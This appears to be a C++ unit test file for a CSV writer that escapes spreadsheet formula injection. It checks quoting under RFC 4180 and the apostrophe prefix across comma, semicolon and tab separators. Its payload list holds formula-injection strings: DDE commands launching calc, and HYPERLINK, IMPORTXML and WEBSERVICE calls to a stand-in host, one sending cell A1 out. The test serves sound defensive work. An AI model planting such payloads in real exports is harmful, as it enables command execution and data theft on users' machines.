#include "base/csv_writer.h"

#include <doctest/doctest.h>

#include <vector>

namespace pomocnik {
namespace {

constexpr std::string_view kMark = "\xEF\xBB\xBF";

// Reads what RFC 4180 says a reader reads, with that character between the cells.
std::vector<std::vector<std::string>> Read(std::string_view csv, char part) {
  REQUIRE(csv.starts_with(kMark));
  csv.remove_prefix(kMark.size());
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row(1);
  bool quoted = false;
  for (std::size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    if (quoted && c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
      row.back() += csv[++i];
    } else if (c == '"' && (quoted || row.back().empty())) {
      quoted = !quoted;
    } else if (!quoted && c == part) {
      row.emplace_back();
    } else if (!quoted && c == '\n') {
      rows.push_back(row);
      row.assign(1, "");
    } else if (quoted || c != '\r') {
      row.back() += c;
    }
  }
  return rows;
}

bool IsFormula(std::string_view cell) {
  // A program may strip spaces before it looks.
  while (cell.starts_with(' ')) cell.remove_prefix(1);
  for (const std::string_view start : {"=", "+", "-", "@", "＝", "＋", "－", "＠"}) {
    if (cell.starts_with(start)) return true;
  }
  return cell.starts_with('\t') || cell.starts_with('\r') || cell.starts_with('\n');
}

// What attackers put into cells: bare, behind a character that a spreadsheet drops or parts cells at, and in quotes.
std::vector<std::string> Payloads() {
  const std::vector<std::string> formulas = {
      "=1+1",
      "=cmd|'/C calc'!A0",
      "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")",
      "=IMPORTXML(\"http://x.test\",\"//a\")",
      "=WEBSERVICE(\"http://x.test\")",
      "=DDE(\"cmd\";\"/C calc\";\"x\")",
      "+1+1",
      "+cmd|' /C calc'!A0",
      "-1+1",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "@A1",
      "＝1+1",
      "＋1+1",
      "－1+1",
      "＠SUM(A1)",
  };
  std::vector<std::string> payloads = {"\t=1+1",  "\r=1+1", "\n=1+1", "\r\n=1+1", "\t",
                                       "=",       "+",      "-",      "@",        "a\n=1+1",
                                       "a\r\n-1", "a\t@A1", " =1+1",  "a; @A1"};
  for (const std::string& formula : formulas) {
    payloads.push_back(formula);
    payloads.push_back("a," + formula);
    payloads.push_back("a;" + formula);
    payloads.push_back("\"" + formula + "\"");
  }
  return payloads;
}

TEST_CASE("no text becomes a formula, whatever character the reader parts cells at") {
  const auto payloads = Payloads();
  CHECK(payloads.size() >= 60);
  for (const std::string& payload : payloads) {
    CAPTURE(payload);
    CsvWriter csv;
    csv.Text("first").Text(payload).Number(std::int64_t{1}).EndRow();
    for (const char part : {',', ';', '\t'}) {
      for (const auto& row : Read(csv.csv(), part)) {
        for (const std::string& cell : row) CHECK_FALSE(IsFormula(cell));
      }
    }
  }
}

TEST_CASE("a text is read back as it was, but for the apostrophe before a formula") {
  for (const std::string& payload : Payloads()) {
    CAPTURE(payload);
    CsvWriter csv;
    csv.Text(payload).Text("next").EndRow();
    const auto rows = Read(csv.csv(), ',');
    REQUIRE(rows.size() == 1);
    REQUIRE(rows[0].size() == 2);
    CHECK(rows[0][0] == WithoutFormulas(payload));
    std::string without = rows[0][0];
    std::erase(without, '\'');
    std::string expected = payload;
    std::erase(expected, '\'');
    CHECK(without == expected);
  }
}

TEST_CASE("what is no formula is left alone") {
  for (const std::string_view text : {"kako storniram temeljnico", "DDV-O", "a=b", "1 - 2",
                                      "stran \"A\"", "rok: 5, 6", "'", ""}) {
    CHECK(WithoutFormulas(text) == text);
  }
  CHECK(WithoutFormulas("=1") == "'=1");
  CHECK(WithoutFormulas("a;=1") == "a;'=1");
}

TEST_CASE("rows are written as RFC 4180 says") {
  CsvWriter csv;
  csv.Text("ključ").Text("s \"tem\"").EndRow();
  csv.Number(std::int64_t{-5}).Number(0.25, 2).EndRow();
  csv.Empty().Number(-0.5, 1).EndRow();
  csv.EndRow();
  CHECK(csv.csv() == std::string(kMark) +
                         "\"ključ\",\"s \"\"tem\"\"\"\r\n"
                         "-5,0.25\r\n"
                         ",-0.5\r\n"
                         "\r\n");
}

}  // namespace
}  // namespace pomocnik
